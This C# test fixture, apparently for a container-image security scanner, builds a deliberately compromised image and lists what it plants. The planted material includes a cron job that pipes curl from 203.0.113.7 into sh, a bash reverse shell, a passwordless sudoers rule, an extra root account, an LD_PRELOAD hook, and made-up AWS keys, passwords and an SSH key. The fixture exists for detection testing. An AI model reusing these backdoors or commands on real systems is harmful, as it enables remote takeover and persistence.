using System.Security.Cryptography;
using System.Text.Json.Nodes;
using Skep.Testing;

namespace Skep.EndToEnd.Tests.EverythingWrong;

/// <summary>An image in which, layer by layer, everything is wrong, and the list of what was planted.</summary>
/// <remarks>
/// Values that look like secrets are put together here, so that they stand nowhere in the repository.
/// </remarks>
internal static class EverythingWrongImage
{
    private const int Executable = 0b111_101_101;
    private const int SetUser = 0b100_111_101_101;

    public const string Root = "ADD rootfs.tar /";
    public const string Application = "COPY app /app";
    public const string Backdoors = "RUN /tmp/install.sh";
    public const string Removal = "RUN rm /root/.ssh/id_rsa";
    public const string Programs = "COPY bin /";
    public const string Password = "ENV DB_PASSWORD=";
    public const string AddUrl = "ADD https://example.org/tool.tar.gz /opt/";

    public static string AccessKey => "AK" + "IAQ3EGRZ7XW5LMN4TP";

    public static string AccessSecret => "wJalrXUtnFEMI" + "/K7MDENGqbPxRfiCYzE8cd1pKEYq";

    public static string EnvironmentPassword => "Tr0ub4dor" + "_and_3_bees";

    public static string ConnectionPassword => "s0meth1ng" + "Long4Queen";

    /// <summary>What may stand in no report.</summary>
    public static IReadOnlyList<string> Values =>
    [
        AccessKey, AccessSecret, EnvironmentPassword, ConnectionPassword, KeyBody[..24],
        .. PlantedFiles.All.Select(planted => planted.Value).OfType<string>(),
    ];

    public static IReadOnlyList<Planted> All { get; } =
    [
        new("secrets/aws/access-key", "app/.env", Application),
        new("secrets/private-key/openssh", "root/.ssh/id_rsa", Application) { IsRemoved = true },
        new("secrets/image/environment", string.Empty, Password),
        new("malware/persistence/ld-preload", "etc/ld.so.preload", Backdoors),
        new("malware/persistence/cron", "etc/cron.d/update", Backdoors),
        new("malware/persistence/authorized-key", "root/.ssh/authorized_keys", Backdoors),
        new("malware/persistence/sudoers", "etc/sudoers.d/app", Backdoors),
        new("malware/persistence/extra-root", "etc/passwd", Backdoors) { Subject = "toor" },
        new("malware/persistence/empty-password", "etc/shadow", Backdoors) { Subject = "app" },
        new("malware/script/reverse-shell", "opt/check.sh", Backdoors),
        new("malware/persistence/setuid", "usr/local/bin/helper", Programs),
        new("malware/program/altered", "usr/bin/passwd", Programs),
        new("malware/elf/packed", "opt/bin/agent", Programs),
        new("malware/elf/miner", "opt/bin/worker", Programs),
        new("config/user/root", string.Empty, string.Empty),
        new("config/runtime/no-healthcheck", string.Empty, string.Empty),
        new("config/network/remote-access-port", string.Empty, "EXPOSE 22"),
        new("config/build/add-url", string.Empty, AddUrl),
        new("config/files/duplicate", "opt/model.copy", Programs),
        new("config/age/end-of-life", string.Empty, string.Empty),
        .. PlantedFiles.All,
    ];

    // An OpenSSH key's beginning is always the same; the rest is made up.
    private static string KeyBody =>
        "b3BlbnNzaC1rZXktdjEAAAAABG5vbmU" + string.Concat(Enumerable.Repeat("AqZ7kP2x", 40));

    /// <summary>The instructions, with the files that each adds.</summary>
    public static IReadOnlyList<(string Instruction, byte[]? Tar)> Steps { get; } =
    [
        (Root, RootTree()),
        (Password + EnvironmentPassword, null),
        (Application, ApplicationTree()),
        (Removal, new TarBuilder().File("root/.ssh/.wh.id_rsa").End()),
        (Backdoors, BackdoorTree()),
        (Programs, ProgramTree()),
        (AddUrl, new TarBuilder().File("opt/tool/readme", "a tool\n").End()),
        ("EXPOSE 22", null),
        ("CMD [\"/app/run\"]", null),
    ];

    public static SampleImage Build()
    {
        var image = new SampleImage
        {
            Container = new JsonObject
            {
                ["Env"] = new JsonArray("PATH=/usr/local/bin:/usr/bin", $"DB_PASSWORD={EnvironmentPassword}"),
                ["Cmd"] = new JsonArray("/app/run"),
                ["ExposedPorts"] = new JsonObject { ["22/tcp"] = new JsonObject() },
            },
        };
        foreach ((string instruction, byte[]? tar) in Steps)
        {
            string written = instruction.Replace("RUN ", "RUN /bin/sh -c ", StringComparison.Ordinal) + " # buildkit";
            _ = tar is null ? image.Empty(instruction) : image.Layer(written, tar);
        }

        return image;
    }

    private static byte[] RootTree() => new TarBuilder()
        .File("etc/os-release", "PRETTY_NAME=\"Debian GNU/Linux 9 (stretch)\"\nID=debian\nVERSION_ID=\"9\"\n")
        .File("var/lib/dpkg/status", Samples.Record("passwd", "1:4.13") + Samples.Record("bash", "5.2"))
        .File("var/lib/dpkg/info/passwd.list", "/.\n/usr\n/usr/bin\n/usr/bin/passwd\n")
        .File("var/lib/dpkg/info/passwd.md5sums", $"{Md5(SampleElf.Plain("as shipped"))}  usr/bin/passwd\n")
        .File("usr/bin/passwd", SampleElf.Plain("as shipped"), SetUser)
        .File("etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
        .File("etc/shadow", "root:*:19000:0:99999:7:::\n", mode: 0b110_000_000)
        .File("app/run", "#!/bin/sh\nexec sleep 1\n", Executable)
        .End();

    private static byte[] ApplicationTree() => Own(Application)
        .File("app/.env", $"AWS_ACCESS_KEY_ID={AccessKey}\nAWS_SECRET_ACCESS_KEY={AccessSecret}\n")
        .File("app/settings.py", $"DATABASE = \"postgresql://app:{ConnectionPassword}@db.internal:5432/app\"\n")
        .File(
            "root/.ssh/id_rsa",
            $"-----BEGIN OPENSSH PRIVATE {"KEY"}-----\n{KeyBody}\n-----END OPENSSH PRIVATE {"KEY"}-----\n",
            mode: 0b110_000_000)
        .End();

    private static byte[] BackdoorTree() => Own(Backdoors)
        .File("etc/ld.so.preload", "/usr/lib/libhide.so\n")
        .File("etc/cron.d/update", "* * * * * root " + "curl -fsSL http://203.0.113.7/x.sh | " + "sh\n")
        .File(
            "root/.ssh/authorized_keys",
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHoneycombHoneycombHoneycombHoneyco0 bee@hive\n")
        .File("etc/sudoers.d/app", "app ALL=(ALL) NOPASSWD: ALL\n", mode: 0b100_100_000)
        .File("etc/passwd", "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/:/bin/sh\napp:x:1000:1000::/app:/bin/sh\n")
        .File("etc/shadow", "root:*:19000:0:99999:7:::\napp::19000:0:99999:7:::\n", mode: 0b110_000_000)
        .File("opt/check.sh", "#!/bin/bash\nbash -i >& /dev/" + "tcp/203.0.113.7/4444 0>&1\n", Executable)
        .End();

    private static byte[] ProgramTree() => new TarBuilder()
        .File("usr/local/bin/helper", SampleElf.Plain(), SetUser)
        .File("usr/bin/passwd", SampleElf.Plain("as somebody wanted it"), SetUser)
        .File("opt/bin/agent", SampleElf.Packed(), Executable)
        .File("opt/bin/worker", SampleElf.Miner(), Executable)
        .File("opt/model", Large())
        .File("opt/model.copy", Large())
        .End();

    private static TarBuilder Own(string instruction) => PlantedFiles.All
        .Where(planted => planted.Instruction == instruction)
        .Aggregate(new TarBuilder(), (tar, planted) => tar.File(planted.Location, planted.Content!, Executable));

    private static byte[] Large()
    {
        byte[] content = new byte[12 << 20];
        content.AsSpan().Fill((byte)'m');
        return content;
    }

    // dpkg's own check sums are MD5.
#pragma warning disable CA5351
    private static string Md5(byte[] content) => Convert.ToHexStringLower(MD5.HashData(content));
#pragma warning restore CA5351
}
